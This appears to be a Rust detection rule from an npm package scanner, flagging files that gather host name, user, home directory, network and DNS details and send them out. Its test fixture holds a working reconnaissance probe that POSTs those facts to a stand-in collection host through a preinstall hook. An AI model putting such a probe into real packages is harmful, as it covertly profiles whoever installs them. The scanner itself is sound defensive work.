//! `host-recon`: a file that gathers who and where the machine is (host name, user name, home
//! directory, network addresses, DNS servers) and sends it out: the dependency-confusion probe
//! and the first stage of targeted attacks.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::install_script::install_entry_files;
use super::sinks;
use super::{PackageFacts, PackageRule, RuleInfo};
use crate::facts::{FileFacts, FileKind};

pub struct HostRecon;

static INFO: RuleInfo = RuleInfo {
    id: "host-recon",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Network],
    summary: "Collects the machine's identity (host name, user, home directory, network addresses, DNS servers) in a file that sends data out",
    docs: r#"## What it detects

A small hand-written file that reads three or more facts identifying the machine and its user:
`os.hostname()`, `os.userInfo()` or `USER`/`USERNAME`, `os.homedir()` or `HOME`,
`os.networkInterfaces()`, `dns.getServers()`, `COMPUTERNAME`/`USERDOMAIN`, and also makes a
network request or DNS lookup:

- **critical** when the file runs at install time (a lifecycle script runs it, or it is the
  inline `node -e` code of one): every installation reports who installed the package, where;
- **high** (medium confidence) otherwise.

Platform, architecture, CPU and memory are not identity and are not counted: update checkers
and crash reporters send those.

## Real attacks

- Dependency-confusion probes (2021 onwards, thousands of packages named after companies'
  internal packages): a `preinstall` posts `os.hostname()`, `os.userInfo().username`,
  `os.homedir()`, `dns.getServers()` and the package path to the author's server or a request
  bin, to learn which companies installed it.
- Targeted stealers check who they run as before the second stage (BeaverTail's first stage
  sends host and user names with its first request).

## Known false positives

Remote-management agents and licence checkers that report the host name and user to their
vendor; these are rare in npm packages and should be allowlisted by policy.
"#,
};

/// Calls that identify the machine or its user, with the fact they reveal.
const IDENTITY_CALLS: &[(&str, &str)] = &[
    ("os.hostname", "host name"),
    ("os.userInfo", "user name"),
    ("os.homedir", "home directory"),
    ("os.networkInterfaces", "network addresses"),
    ("dns.getServers", "DNS servers"),
    ("dns.promises.getServers", "DNS servers"),
];

/// Environment variables that identify the machine or its user.
const IDENTITY_ENV: &[(&str, &str)] = &[
    ("process.env.USER", "user name"),
    ("process.env.USERNAME", "user name"),
    ("process.env.LOGNAME", "user name"),
    ("process.env.HOME", "home directory"),
    ("process.env.USERPROFILE", "home directory"),
    ("process.env.HOSTNAME", "host name"),
    ("process.env.COMPUTERNAME", "host name"),
    ("process.env.USERDOMAIN", "Windows domain"),
];

/// The distinct identity facts a file reads, with the first line reading one.
fn identity_facts(file: &FileFacts) -> (Vec<&'static str>, u32) {
    let mut facts: Vec<&'static str> = Vec::new();
    let mut first_line = u32::MAX;
    let mut add = |what: &'static str, line: u32| {
        if !facts.contains(&what) {
            facts.push(what);
        }
        first_line = first_line.min(line);
    };
    for call in &file.calls {
        let callee = sinks::normalize(&call.callee);
        if let Some((_, what)) = IDENTITY_CALLS.iter().find(|(name, _)| *name == callee) {
            add(what, call.line);
        }
    }
    for read in &file.member_reads {
        if let Some((_, what)) = IDENTITY_ENV.iter().find(|(name, _)| *name == read.path) {
            add(what, read.line);
        }
    }
    (facts, if first_line == u32::MAX { 1 } else { first_line })
}

impl PackageRule for HostRecon {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let mut install_files: Option<Vec<String>> = None;
        for file in &package.files {
            if !matches!(file.kind, FileKind::JavaScript | FileKind::TypeScript) || !sinks::is_small_handwritten(file) {
                continue;
            }
            let (facts, line) = identity_facts(file);
            if facts.len() < 3 || !sinks::has_network(file) {
                continue;
            }
            let at_install = install_files
                .get_or_insert_with(|| install_entry_files(package))
                .iter()
                .any(|f| f == &file.path);
            let (severity, confidence, when) = if at_install {
                (Severity::Critical, Confidence::High, "at install time, ")
            } else {
                (INFO.severity, INFO.confidence, "")
            };
            let what = facts.join(", ");
            out.push(sinks::finding(
                &INFO,
                file,
                line,
                severity,
                confidence,
                format!("Collects the machine's identity ({what}) {when}in a file that sends data over the network: reconnaissance of who installed the package"),
                None,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::install_script::testing::run;
    use super::*;

    const PROBE: &str = r#"const os = require("os"), dns = require("dns"), https = require("https");
const data = JSON.stringify({ hn: os.hostname(), un: os.userInfo().username, hd: os.homedir(), dns: dns.getServers() });
const req = https.request({ hostname: "collect.example-stats.com", method: "POST", path: "/" });
req.write(data);
req.end();
"#;

    #[test]
    fn install_time_probe_is_critical() {
        let manifest = r#"{"name":"acme-internal-utils","version":"99.0.0","scripts":{"preinstall":"node index.js"}}"#;
        let found = run(
            &HostRecon,
            &[("package.json", manifest.as_bytes()), ("index.js", PROBE.as_bytes())],
        );
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].severity, Severity::Critical);
        assert!(found[0].message.contains("host name"), "{}", found[0].message);
        let runtime = r#"{"name":"acme-internal-utils","version":"1.0.0"}"#;
        let found = run(
            &HostRecon,
            &[("package.json", runtime.as_bytes()), ("index.js", PROBE.as_bytes())],
        );
        assert_eq!(found[0].severity, Severity::High, "{found:#?}");
    }

    #[test]
    fn platform_details_and_local_use_are_quiet() {
        let manifest = br#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node index.js"}}"#;
        for source in [
            // An update checker sends platform facts, not identity.
            "const os = require('os');\nfetch('https://api.example.com/v?p=' + os.platform() + '&a=' + os.arch() + '&c=' + os.cpus().length);",
            // Identity read for local use, no network.
            "const os = require('os');\nconsole.log(os.hostname(), os.userInfo().username, os.homedir());",
        ] {
            let found = run(&HostRecon, &[("package.json", manifest), ("index.js", source.as_bytes())]);
            assert!(found.is_empty(), "{source}: {found:#?}");
        }
    }
}
